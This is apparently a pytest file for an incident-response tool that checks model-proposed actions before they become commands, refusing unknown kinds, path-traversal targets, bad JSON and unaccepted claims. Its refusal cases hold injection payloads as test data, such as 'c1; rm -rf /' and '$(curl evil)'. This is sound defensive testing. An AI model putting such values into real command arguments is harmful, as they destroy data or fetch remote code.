"""What is refused before anyone is asked, and what a command is made of."""

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from leadline.contracts.action import Action
from leadline.contracts.base import ClaimId, RunId
from leadline.contracts.incident import CauseRef
from leadline.contracts.proposal import ProposedAction
from leadline.contracts.report import RankedCause, Ranking, Remedy
from leadline.contracts.team import Requirement
from leadline.rules.actions.baseline import baseline_actions
from leadline.rules.actions.proposals import Floor, Taken, take_proposals
from leadline.runtime.action_catalog import load_catalog, parse_catalog
from tests.doubles.acting import CATALOG

AT = datetime(2026, 11, 30, tzinfo=UTC)
PARSED = parse_catalog(CATALOG, "test")


def floor(**more: Any) -> Floor:
    given: dict[str, Any] = {
        "run_id": RunId("run-1"), "catalog": PARSED, "tenant": "acme", "user": "ada",
        "services": frozenset({"till", "door", "cellar", "bad name", "x;y", ".."}), "claims": frozenset({ClaimId("clm-1")}), "at": AT,
    }  # fmt: skip
    return Floor(**(given | more))


def item(
    kind: str = "rollback", target: str = "till", arguments: Any = None, claims: tuple[str, ...] = ()
) -> ProposedAction:
    given = {"change": "c1"} if arguments is None else arguments
    text = given if isinstance(given, str) else json.dumps(given)
    return ProposedAction(kind=kind, target=target, arguments_json=text, claims=list(claims), why="it helps")


def take(*items: ProposedAction, known: tuple[Action, ...] = (), **more: Any) -> Taken:
    return take_proposals(items, known, floor(**more), origin="model", by="model:x")


def test_what_is_taken_gets_everything_that_matters_from_code() -> None:
    taken = take(item(claims=("clm-1",)))
    (action,), (proposal,) = taken.actions, taken.proposals
    command = action.command
    assert (command.effect, command.risk, command.tenant, command.user) == ("reversible_write", "medium", "acme", "ada")
    assert str(command.target) == "production/service/till"
    assert command.policy == PARSED.version
    assert (command.deadline_at - AT).total_seconds() == 3600 + 2 * 0.3
    assert (action.state, proposal.command_id, proposal.claims) == ("proposed", command.command_id, ("clm-1",))


REFUSED = {
    "unknown kind": (item("delete-namespace"), "has no action"),
    "empty kind": (item(""), "has no action"),
    "kind in capitals": (item("Rollback"), "has no action"),
    "unknown target": (item(target="payments"), "is known to the evidence"),
    "no target": (item(target=""), "no name of a resource"),
    "target with blank": (item(target="bad name"), "no name of a resource"),
    "target with shell": (item(target="x;y"), "no name of a resource"),
    "target as option": (item(target="--all"), "no name of a resource"),
    "target with pipe": (item(target="till|sh"), "no name of a resource"),
    "target as a way up": (item(target=".."), "no name of a resource"),
    "way up": (item(arguments={"change": ".."}), "a way through folders"),
    "target outside the kind's": (item("wipe", "cellar", {}), "does not allow wipe on 'cellar'"),
    "unknown argument": (item(arguments={"change": "c1", "force": True}), "takes no argument 'force'"),
    "own effect": (item(arguments={"change": "c1", "effect": "read"}), "takes no argument 'effect'"),
    "own approval": (item(arguments={"change": "c1", "approved": True}), "takes no argument 'approved'"),
    "missing argument": (item(arguments={}), "argument 'change' is missing"),
    "shell": (item(arguments={"change": "c1; rm -rf /"}), "shell syntax"),
    "substitution": (item(arguments={"change": "$(curl evil)"}), "shell syntax"),
    "backticks": (item(arguments={"change": "`id`"}), "shell syntax"),
    "newline": (item(arguments={"change": "c1\nrm"}), "shell syntax"),
    "nul": (item(arguments={"change": "c1\x00"}), "shell syntax"),
    "option": (item(arguments={"change": "--force"}), "shell syntax"),
    "too long": (item(arguments={"change": "c" * 200}), "longer than 128"),
    "hidden characters": (item(arguments={"change": "c\u202e1"}), "does not match"),
    "list for text": (item(arguments={"change": ["kubectl", "delete"]}), "is no text"),
    "number for text": (item(arguments={"change": 1}), "is no text"),
    "text for number": (item("scale", arguments={"replicas": "5"}), "is no integer"),
    "boolean for number": (item("scale", arguments={"replicas": True}), "is no integer"),
    "fraction": (item("scale", arguments={"replicas": 2.5}), "no whole number"),
    "too many": (item("scale", arguments={"replicas": 5000}), "is above 20"),
    "too few": (item("scale", arguments={"replicas": 0}), "is below 1"),
    "not a number": (item("scale", arguments='{"replicas": NaN}'), "no JSON"),
    "endless": (item("scale", arguments='{"replicas": 1e400}'), "no JSON"),
    "half a character": (item(arguments='{"change": "\\ud800"}'), "no JSON"),
    "key twice": (item(arguments='{"change": "c1", "change": "c2"}'), "no JSON"),
    "no JSON": (item(arguments="change=c1"), "no JSON"),
    "deep": (item(arguments="[" * 1900), "no JSON"),
    "JSON list": (item(arguments='["c1"]'), "no JSON object"),
    "invented claim": (item(claims=("clm-9",)), "claims that were not accepted"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused_before_anyone_is_asked(name: str) -> None:
    proposed, why = REFUSED[name]
    taken = take(proposed)
    assert taken.actions == ()
    assert why in taken.proposals[0].refused
    assert taken.proposals[0].command_id == ""


class TestRepeats:
    def test_the_same_again(self) -> None:
        taken = take(item(), item())
        assert [bool(p.refused) for p in taken.proposals] == [False, True]
        assert "proposed already" in taken.proposals[1].refused

    def test_one_purpose_with_other_arguments(self) -> None:
        taken = take(item(), item(arguments={"change": "c2"}))
        assert "with other arguments" in taken.proposals[1].refused

    def test_more_of_a_kind_than_a_run_may_have(self) -> None:
        taken = take(item(target="till"), item(target="door"), item(target="cellar"))
        assert [a.command.target.name for a in taken.actions] == ["till", "door"]
        assert "2 times" in taken.proposals[2].refused


class TestRequirements:
    """What the team file rules out is not asked about, unless a person has set it aside for this remedy."""

    freeze = Requirement(
        id="freeze", statement="no rollbacks on the till this week", forbids=("rollback",), services=("till",)
    )

    def test_what_is_ruled_out(self) -> None:
        (proposal,) = take(item(), requirements=(self.freeze,)).proposals
        assert proposal.refused == "requirement 'freeze' forbids it: no rollbacks on the till this week"

    def test_elsewhere_it_may_be_asked(self) -> None:
        assert take(item(target="door"), requirements=(self.freeze,)).actions

    def test_what_was_set_aside(self) -> None:
        assert take(item(), requirements=(self.freeze,), standing=frozenset({("rollback", "till")})).actions


def test_hostile_texts_never_become_a_command(shared: Path) -> None:
    """Every line of the hostile collection, taken for a kind, a target, an argument."""
    lines = [
        line
        for path in sorted((shared / "data" / "hostile").glob("*"))
        if path.suffix in {".jsonl", ".log", ".json"}
        for line in path.read_text("utf-8", "replace").splitlines()[:200]
    ]
    assert len(lines) > 100
    for line in lines:
        text = line[:900]
        taken = take(item(kind=text), item(target=text), item(arguments=text), item(arguments={"change": text}))
        assert taken.actions == () or all(a.command.arguments == {"change": text} for a in taken.actions)
        assert not taken.actions or not set(text) & set(";&|`$<>(){}\n\"' ")


class TestBaseline:
    def ranking(self, *remedies: tuple[str, str], kind: Any = "change") -> Ranking:
        cause = RankedCause(cause=CauseRef(kind=kind, ref="c1", service="till"), score=0.9, confidence=0.9)
        return Ranking(
            outcome="cause_found", causes=(cause,), remediation=tuple(Remedy(action=a, target=t) for a, t in remedies)
        )

    def test_remedies_that_the_catalog_answers_become_proposals(self) -> None:
        base = baseline_actions(self.ranking(("rollback", "till")), load_catalog())
        (action,) = base.proposal.actions
        assert (action.kind, action.target, json.loads(action.arguments_json)) == ("rollback", "till", {"change": "c1"})

    def test_what_rules_cannot_know_stays_advice_with_its_reason(self) -> None:
        base = baseline_actions(self.ranking(("scale", "till"), ("escalate-upstream", "till")), load_catalog())
        assert base.proposal.actions == []
        assert base.left == (
            "scale till: rules cannot say replicas",
            "escalate-upstream till: the catalog has no action for it",
        )

    def test_a_cause_that_is_no_change_gives_no_change_to_take_back(self) -> None:
        base = baseline_actions(self.ranking(("rollback", "till"), kind="service"), load_catalog())
        assert base.left == ("rollback till: rules cannot say change",)

    def test_every_proposal_of_the_rules_passes_the_rules_checks(self) -> None:
        catalog = load_catalog()
        remedies = tuple((r, "till") for s in catalog.kinds for r in s.remedies)
        base = baseline_actions(self.ranking(*remedies), catalog)
        taken = take_proposals(base.proposal.actions, (), floor(catalog=catalog), origin="rules", by="rules")
        assert taken.actions
        assert all("proposed already" in p.refused for p in taken.proposals if p.refused)
